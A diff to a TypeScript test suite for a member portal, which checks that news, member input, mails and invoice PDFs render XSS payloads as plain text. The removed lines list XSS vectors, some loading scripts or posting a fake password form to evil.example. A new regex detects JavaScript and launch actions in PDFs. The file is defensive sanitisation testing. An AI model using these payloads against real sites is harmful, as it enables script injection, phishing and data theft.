@@ -7,47 +7,11 @@ import { asHtml, asText } from '../platform/mail/layout.ts';
 import type { Letter } from '../platform/mail/letter.ts';
 import { folderMailer } from '../platform/mail/mailer.ts';
 import { aLoggedInClient } from '../testing/builders.ts';
-import { confirmedInvoice, withDemoFees } from '../testing/invoicingBuilders.ts';
+import { aCoveredPerson, confirmedInvoice, withDemoFees } from '../testing/invoicingBuilders.ts';
+import { markupPayloads as payloads } from '../testing/markupPayloads.ts';
+import { readPdf } from '../testing/pdfReading.ts';
 import { registerAndRead } from '../testing/registrations.ts';
 import { startTestServer, type TestServer, testAssociation } from '../testing/testServer.ts';
-
-/** Texts that would run, load or disguise something if they were taken for markup anywhere. */
-const payloads = [
-  '<script>alert(1)</script>',
-  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img/src="x"/onerror=alert`1`>',
-  '"><svg onload=alert(1)>',
-  "'><body onload=alert(1)>",
-  '<svg><animate onbegin=alert(1) attributeName=x>',
-  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="data:text/html,<script>alert(1)</script>">',
-  '<a href="javascript:alert(1)">Rechnung</a>',
-  '<a href="jAvAsCrIpT&#58;alert(1)">x</a>',
-  '<a href="\tjava\nscript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="https://evil.example" target="_blank" onclick="x()" style="position:fixed;inset:0">Bank</a>',
-  '<form action="https://evil.example"><input name=password><button>Login</button></form>',
-  '<style>*{background:url(https://evil.example/x)}</style>',
-  '<link rel=stylesheet href=https://evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<video><source onerror=alert(1)></video>',
-  '<details open ontoggle=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<template><script>alert(1)</script></template>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '\u003cimg src=x onerror=alert(1)\u003e',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<x onclick=alert(1)>',
-  '</title><script>alert(1)</script>',
-  '{{constructor.constructor("alert(1)")()}}',
-];
 
 let server: TestServer;
 beforeAll(async () => {
@@ -56,6 +20,7 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
+// proves: promise.7
 describe('news', () => {
   test.each(payloads)('%s in the HTML becomes harmless, in the title stays text', async (payload) => {
     const { client, household } = await aLoggedInClient(server);
@@ -105,6 +70,7 @@ describe('a name', () => {
   });
 });
 
+// proves: promise.7
 describe('everything a member can type', () => {
   test.each(payloads)('%s comes back as the text it was, as JSON that no browser shows', async (payload) => {
     const { client, household } = await aLoggedInClient(server, { status: 'active' });
@@ -132,6 +98,7 @@ describe('everything a member can type', () => {
   });
 });
 
+// proves: promise.7
 describe('mails', () => {
   test.each(payloads)('a letter that says %s says it, and does nothing', async (payload) => {
     const letter: Letter = {
@@ -173,6 +140,22 @@ describe('mails', () => {
     expect(server.mails.flatMap(({ html }) => liveMarkupInMail(html))).toEqual([]);
   });
 });
+
+// proves: promise.7
+test('an invoice for people who are called all that prints their names, and its PDF has nothing to run', async () => {
+  const { client, household } = await aLoggedInClient(server, { first_name: ONE_LINE[0] ?? '', last_name: 'Öz' });
+  for (const first_name of ONE_LINE) await aCoveredPerson(server, household, { first_name, last_name: 'Öz' });
+  const invoice = await confirmedInvoice(client);
+
+  const { bytes } = await client.send('GET', `/api/v1/finance/sale-invoice/${invoice.id}/render-pdf/1`);
+
+  const printed = (await readPdf(bytes)).pages.join('').replace(/\s+/g, '');
+  for (const name of ONE_LINE) expect(printed).toContain(name.slice(0, 12).replace(/\s+/g, ''));
+  expect(bytes.toString('latin1')).not.toMatch(/\/(JavaScript|JS|OpenAction|AA|Launch|EmbeddedFile|URI)\b/);
+});
+
+/** A name is one line (D7). */
+const ONE_LINE = payloads.map((payload) => payload.replace(/[\t\n]/g, ' '));
 
 /** A link of ours, to the portal itself. */
 const OWN_LINK = /^<a href="http:\/\/localhost:8080\/member-ui\/[^"<>]*" style="[\w\s:;#%.-]*">$/;
